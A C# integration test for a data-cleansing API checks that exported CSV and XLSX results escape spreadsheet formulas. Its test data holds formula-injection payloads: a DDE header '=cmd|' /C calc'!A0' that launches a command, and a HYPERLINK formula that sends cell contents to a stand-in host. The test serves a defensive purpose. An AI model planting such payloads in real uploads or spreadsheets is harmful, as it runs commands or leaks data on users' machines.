using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using Dakla06.Cleansing.Domain;
using Dakla06.IntegrationTests.Support;
using MiniExcelLibs;

namespace Dakla06.IntegrationTests.Cleansing;

/// <summary>
/// A batch's results (CSV and XLSX) neutralise spreadsheet formulas in what the uploaded file held — values and
/// headers — and keep plain numbers as they were.
/// </summary>
public sealed class ExportFormulaTests(CleansingFixture fixture) : IClassFixture<CleansingFixture>
{
    private const string Formula = "=HYPERLINK(\"http://x/?\"&A2,\"x\")";

    private const string Batch =
        "ho_ten,ngay_sinh,gioi_tinh,so_dinh_danh,ghi_chu,so_mui,=cmd|' /C calc'!A0\r\n"
        + "Nguyễn Văn An,12/05/1990,Nam,,\"=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"x\"\")\",-5,@SUM(A1:A9)\r\n";

    [Fact]
    public async Task Results_csv_and_xlsx_neutralise_formulas_and_keep_numbers()
    {
        var cancel = TestContext.Current.CancellationToken;
        var cleanser = await SignedIn.ClientAsync(fixture.Api, fixture.Identity, "province.cleanser");
        var id = await UploadAsync(cleanser, Batch);
        await Eventually.ReturnsAsync(
            () => cleanser.GetFromJsonAsync<JsonElement>($"/api/cleansing/batches/{id}", cancel),
            b => b.GetProperty("status").GetString() == "completed", because: "batch completed");

        var csv = (await cleanser.GetStringAsync($"/api/cleansing/batches/{id}/results.csv", cancel)).TrimStart('\uFEFF');
        var lines = csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Select(RecordLine.Split).ToList();
        Assert.Equal("'=cmd|' /C calc'!A0", lines[0][6]);
        Assert.Equal(["Nguyễn Văn An", "12/05/1990", "Nam", "", "'" + Formula, "-5", "'@SUM(A1:A9)"], lines[1][..7]);

        using var xlsx = new MemoryStream(await cleanser.GetByteArrayAsync($"/api/cleansing/batches/{id}/results.xlsx", cancel));
        var row = xlsx.Query(useHeaderRow: true).Cast<IDictionary<string, object?>>().Single();
        Assert.Equal("'" + Formula, row["ghi_chu"]);
        Assert.Equal("-5", Convert.ToString(row["so_mui"], System.Globalization.CultureInfo.InvariantCulture));
        Assert.Equal("'@SUM(A1:A9)", row["'=cmd|' /C calc'!A0"]);
    }

    private static async Task<Guid> UploadAsync(HttpClient client, string csv)
    {
        using var form = new MultipartFormDataContent();
        form.Add(new ByteArrayContent(Encoding.UTF8.GetBytes(csv)), "file", "batch.csv");
        form.Add(new StringContent("vaccination"), "dataset");
        form.Add(new StringContent("643"), "unitCode");
        using var response = await client.PostAsync("/api/cleansing/batches", form, TestContext.Current.CancellationToken);
        var body = await response.Content.ReadAsStringAsync(TestContext.Current.CancellationToken);
        Assert.True(response.IsSuccessStatusCode, $"upload: {(int)response.StatusCode} {body}");
        return JsonDocument.Parse(body).RootElement.GetProperty("id").GetGuid();
    }
}
